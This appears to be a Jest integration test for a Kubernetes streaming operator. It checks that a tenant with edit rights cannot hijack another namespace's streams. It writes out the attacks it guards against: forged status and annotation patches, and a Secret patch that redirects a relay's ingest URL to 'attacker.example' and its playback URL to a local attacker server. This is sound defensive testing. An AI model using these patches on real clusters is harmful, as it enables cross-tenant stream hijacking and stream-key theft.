import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { LiveChannel } from '../../../src/api/live-channel.ts';
import { annotations } from '../../../src/api/names.ts';
import { activeRecord, streamRecords } from '../../../src/api/stream-records.ts';
import { secretType } from '../../../src/kube/core-types.ts';
import { cloudNames, type CloudName } from '../../fixtures/clouds/contract.ts';
import type { PaperMedia } from '../../fixtures/clouds/paper-media.ts';
import { startClouds, type Clouds } from '../../fixtures/clouds/start-clouds.ts';
import { clusterCli, expectOk, type Cli } from '../../support/cluster/cluster-cli.ts';
import { OperatorStage, type Ref } from '../../support/operator/operator-stage.ts';
import { eventually } from '../../support/wait/eventually.ts';

/**
 * Mallory may edit her namespace, with the cluster's own ClusterRole edit and what the chart adds to it. She knows the IDs of
 * the streams of another namespace, and writes them wherever she may write.
 */
let stage: OperatorStage;
let clouds: Clouds<PaperMedia>;
let mallory: Cli;
let theirs: string;
let hers: string;
/** A host of Mallory's, and the host of the platform that her channel migrates to. */
let attacker: Host;
let company: Host;
/** All Secrets of her namespace, in all their versions. */
let seen = '';
const stop = new AbortController();
let watching: Promise<void> = Promise.resolve();

/** An HTTP server that notes what it is asked for. */
class Host implements AsyncDisposable {
  readonly requests: string[] = [];
  readonly #server: Server;

  private constructor(server: Server) {
    this.#server = server.on('request', (request: { url?: string }, response: { end: () => void }) => {
      this.requests.push(request.url ?? '');
      response.end();
    });
  }

  static async start(): Promise<Host> {
    const server = createServer().listen(0, '127.0.0.1');
    await once(server, 'listening');
    return new Host(server);
  }

  get url(): string {
    return `http://127.0.0.1:${String((this.#server.address() as AddressInfo).port)}`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }
}

beforeAll(async () => {
  clouds = await startClouds({ media: 'paper' });
  [attacker, company] = await Promise.all([Host.start(), Host.start()]);
  stage = await OperatorStage.build();
  const { controlPlane, kubectl } = stage;
  for (const cloud of cloudNames) {
    const { credentials, spec } = clouds.cloud(cloud);
    await stage.putSecret({ namespace: 'default', name: cloud }, credentials);
    const credentialsRef = { namespace: 'default', name: cloud };
    await stage.putPlatform(cloud, {
      spec: { provider: cloud, origin: undefined, credentialsRef, [cloud]: spec },
    });
  }
  await stage.putPlatform('origin');
  await stage.putSecret(
    { namespace: 'default', name: 'company' },
    {
      ingestUrl: 'rtmps://ingest.example:443/live/',
      streamKey: 'the-company-key',
      playbackUrl: `${company.url}/live/index.m3u8`,
    },
  );
  // Each has room for one channel.
  for (const name of ['origin', ...cloudNames])
    await stage.putPlatform(`company-${name}`, {
      spec: {
        provider: 'rtmp',
        origin: undefined,
        rtmp: {},
        credentialsRef: { namespace: 'default', name: 'company' },
      },
    });
  theirs = await stage.namespace();
  hers = await stage.namespace();
  const helm = await clusterCli('helm', controlPlane.kubeconfigPath);
  const args = ['--show-only', 'templates/operator/user-roles.yaml'];
  const roles = await expectOk(
    helm(['template', 'livechannel', 'charts/livechannel-operator', '-n', 'livechannel-system', ...args]),
  );
  await expectOk(kubectl(['apply', '-f', '-'], roles));
  await expectOk(
    kubectl(['create', 'rolebinding', 'mallory', '-n', hers, '--clusterrole=edit', '--user=mallory']),
  );
  mallory = await clusterCli(
    'kubectl',
    await controlPlane.issueKubeconfig('mallory', { commonName: 'mallory' }),
  );
  await eventually('Mallory may edit her channels', 20, async () => {
    const { ok } = await mallory(['auth', 'can-i', 'patch', 'livechannels.livechannel.dev', '-n', hers]);
    return ok ? true : undefined;
  });
  const { resourceVersion } = await stage.client.list(secretType, { namespace: hers });
  watching = (async () => {
    for await (const { object } of stage.client.watch(secretType, {
      namespace: hers,
      resourceVersion,
      timeoutSeconds: 3_600,
      signal: stop.signal,
    }))
      seen += JSON.stringify(object);
  })().catch((error: unknown) => {
    if (!stop.signal.aborted) throw error;
  });
  stage.startOperator({ LIVECHANNEL_ORPHAN_GRACE_SECONDS: '3600' });
}, 300_000);
afterAll(async () => {
  stop.abort();
  await watching;
  await stage[Symbol.asyncDispose]();
  await clouds[Symbol.asyncDispose]();
  await attacker[Symbol.asyncDispose]();
  await company[Symbol.asyncDispose]();
});

/** The key of the stream at its platform. */
function keyOf(platform: CloudName | 'origin', id: string | undefined): string | undefined {
  return platform === 'origin'
    ? stage.origin.streams.get(id ?? '')?.streamKey
    : clouds
        .cloud(platform)
        .streams()
        .find((stream) => stream.id === id)?.streamKey;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

test('users who may edit a namespace may not write the status of its channels', async () => {
  const may = async (...what: string[]): Promise<string> =>
    (await mallory(['auth', 'can-i', ...what])).stdout.trim();
  const channels = 'livechannels.livechannel.dev';
  expect(await may('patch', channels, '-n', hers)).toBe('yes');
  for (const verb of ['update', 'patch'])
    expect(await may(verb, channels, '--subresource=status', '-n', hers)).toBe('no');
  expect(await may('get', 'secrets', '-n', theirs)).toBe('no');
});

describe.each<CloudName | 'origin'>(['origin', ...cloudNames])(
  'a stream of another namespace on %s',
  (platform) => {
    test('is not opened, not given a new key, not signed for and not deleted, whatever Mallory writes', async () => {
      const spec = { platformRef: { name: platform }, playback: { access: 'signed' } };
      const victim = { namespace: theirs, name: `victim-${platform}` };
      await stage.apply(victim, spec);
      const { status } = await stage.onAir(victim);
      const victimId = status?.streamId ?? '';
      const victimUrl = status?.hlsPlaybackUrl ?? '';
      const key = keyOf(platform, victimId) ?? '';
      expect(key).not.toBe('');
      const signatures = stage.origin.calls.filter((call) => call === `POST ${victimId}`).length;

      const mine: Ref = { namespace: hers, name: `mine-${platform}` };
      const kubectl = async (...args: string[]): Promise<void> => {
        await expectOk(mallory([...args, '-n', hers]));
      };
      const manifest = {
        apiVersion: 'livechannel.dev/v1alpha1',
        kind: 'LiveChannel',
        metadata: { ...mine },
        spec: { agora: { credentialsRef: { name: 'agora' } }, ...spec },
        status: { streamId: victimId, streams: [{ id: victimId }] },
      };
      await expectOk(mallory(['apply', '--validate=false', '-f', '-'], JSON.stringify(manifest)));
      const { metadata, status: own } = await stage.onAir(mine);
      expect(own?.streamId).not.toBe(victimId);

      // Her own status.
      const forged = JSON.stringify({ status: { streamId: victimId } });
      const patched = await mallory([
        ...[
          'patch',
          'livechannel',
          mine.name,
          '-n',
          hers,
          '--subresource=status',
          '--type=merge',
          '-p',
          forged,
        ],
      ]);
      expect(patched.stderr).toMatch(/forbidden/i);

      // Records of earlier versions, for each role; and a new key.
      const name = streamRecords(await channel(victim))[0]?.name ?? '';
      const since = new Date().toISOString();
      const record = { platform, slot: 0, id: victimId, attempt: 'first', since, until: 'never' };
      for (const streams of [
        [{ ...record, name, role: 'active' }],
        [{ ...record, name: activeRecord(await channel(mine))?.name, role: 'active' }],
        [{ ...record, name, role: 'incoming', slot: 1 }],
        Array.from({ length: 100 }, () => ({ ...record, name, role: 'draining' })),
      ]) {
        const text = JSON.stringify({ channel: metadata.uid, streams });
        await kubectl('annotate', '--overwrite', 'livechannel', mine.name, `${annotations.streams}=${text}`);
        await kubectl(
          'annotate',
          '--overwrite',
          'livechannel',
          mine.name,
          `${annotations.rotateKey}=${since}`,
        );
      }
      // Her relay's Secret: what earlier versions believed, and the address that her relay pushes to.
      const notes = {
        'livechannel.dev/stream-id': victimId,
        'livechannel.dev/stream-name': name,
        'livechannel.dev/stream-platform': platform,
        'livechannel.dev/playback-url': `${attacker.url}/${victimUrl.split('/').at(-1) ?? ''}`,
      };
      const forge = (secret: string): Promise<void> =>
        kubectl(
          ...['patch', 'secret', secret, '--type=merge', '-p'],
          JSON.stringify({
            metadata: { annotations: notes },
            data: { 'ingest-url': base64('rtmps://attacker.example/live/') },
          }),
        );
      await forge(`${mine.name}-relay`);
      await eventually("her relay's Secret is written again", 20, async () => {
        const { data = {} } = (await stage.secret(mine)) ?? {};
        return data['ingest-url'] === base64('rtmps://attacker.example/live/') ? undefined : true;
      });
      await kubectl('delete', 'secret', `${mine.name}-relay`);
      await eventually("her relay's Secret is there again", 20, async () => stage.secret(mine));
      await eventually('her own stream has another key', 20, async () => {
        const { provisioned, rotated } = activeRecord(await channel(mine)) ?? {};
        return provisioned !== undefined && rotated === since ? true : undefined;
      });

      // A migration, during which the operator probes the playback URL of the incoming stream.
      await kubectl(
        ...['patch', 'livechannel', mine.name, '--type=merge', '-p'],
        JSON.stringify({
          spec: { platformRef: { name: `company-${platform}` }, playback: { access: 'public' } },
        }),
      );
      const incoming = `${mine.name}-relay-1`;
      await eventually('the Secret of the incoming stream', 20, async () => {
        const secret = await stage.secret(mine, 1);
        if (secret === undefined) throw new Error(JSON.stringify((await channel(mine)).status));
        return secret;
      });
      await forge(incoming);
      const asked = company.requests.length;
      await eventually('the real playback URL is probed', 20, async () =>
        Promise.resolve(company.requests.length >= asked + 3 ? true : undefined),
      );
      await kubectl('delete', '--wait=false', 'livechannel', mine.name);

      expect(keyOf(platform, victimId)).toBe(key);
      expect(seen).not.toContain(base64(key));
      expect(attacker.requests).toEqual([]);
      expect(stage.origin.calls.filter((call) => call === `POST ${victimId}`)).toHaveLength(signatures);
      const after = await channel(victim);
      expect(after.status).toMatchObject({
        streamId: victimId,
        relayStatus: 'active',
        hlsPlaybackUrl: victimUrl,
      });
    }, 120_000);
  },
);

describe('a channel whose memory is lost, on a platform where each create makes another stream', () => {
  const ivsStreams = (uid: string): string[] =>
    clouds
      .cloud('ivs')
      .streams()
      .filter(({ tags }) => Object.values(tags).includes(uid))
      .map(({ id }) => id);

  async function onIvs(name: string): Promise<{ ref: Ref; before: LiveChannel; pod: string | undefined }> {
    const ref = { namespace: theirs, name };
    await stage.apply(ref, { platformRef: { name: 'ivs' } });
    const before = await stage.onAir(ref);
    return { ref, before, pod: (await stage.pod(ref))?.metadata.uid };
  }

  async function isAsBefore({ ref, before, pod }: Awaited<ReturnType<typeof onIvs>>): Promise<void> {
    const after = await stage.channelIs(
      ref,
      'its records are back',
      ({ status }) => activeRecord({ status })?.provisioned !== undefined && status?.relayStatus === 'active',
    );
    const { hlsPlaybackUrl, streamId, streamKeyId } = before.status ?? {};
    expect(after.status).toMatchObject({ hlsPlaybackUrl, streamId, streamKeyId });
    expect(streamRecords(after)).toHaveLength(1);
    expect(ivsStreams(before.metadata.uid)).toEqual([streamId]);
    expect((await stage.pod(ref))?.metadata.uid).toBe(pod);
  }

  test('finds its stream again when the status was deleted', async () => {
    const running = await onIvs('lost');
    const args = ['patch', 'livechannel', 'lost', '-n', theirs, '--subresource=status', '--type=merge'];
    await expectOk(stage.kubectl([...args, '-p', '{"status":null}']));
    await isAsBefore(running);
  }, 60_000);

  test('keeps stream, relay and address across the upgrade from a version with the annotation', async () => {
    const running = await onIvs('upgraded');
    const { metadata } = running.before;
    await stage.stopOperator();
    const streams = streamRecords(await channel(running.ref)).map(({ provisioned: _, ...record }) => record);
    const text = JSON.stringify({ channel: metadata.uid, streams });
    const args = ['upgraded', '-n', theirs];
    await expectOk(
      stage.kubectl([
        ...['patch', 'livechannel', ...args, '--subresource=status', '--type=merge'],
        ...['-p', '{"status":{"streams":null}}'],
      ]),
    );
    await expectOk(stage.kubectl(['annotate', 'livechannel', ...args, `${annotations.streams}=${text}`]));
    stage.startOperator({ LIVECHANNEL_ORPHAN_GRACE_SECONDS: '1' });
    await isAsBefore(running);
    expect((await channel(running.ref)).metadata.annotations ?? {}).not.toHaveProperty([annotations.streams]);
  }, 60_000);
});

async function channel(ref: Ref): Promise<LiveChannel> {
  const found = await stage.channel(ref);
  if (found === undefined) throw new Error(`no LiveChannel ${ref.name}`);
  return found;
}
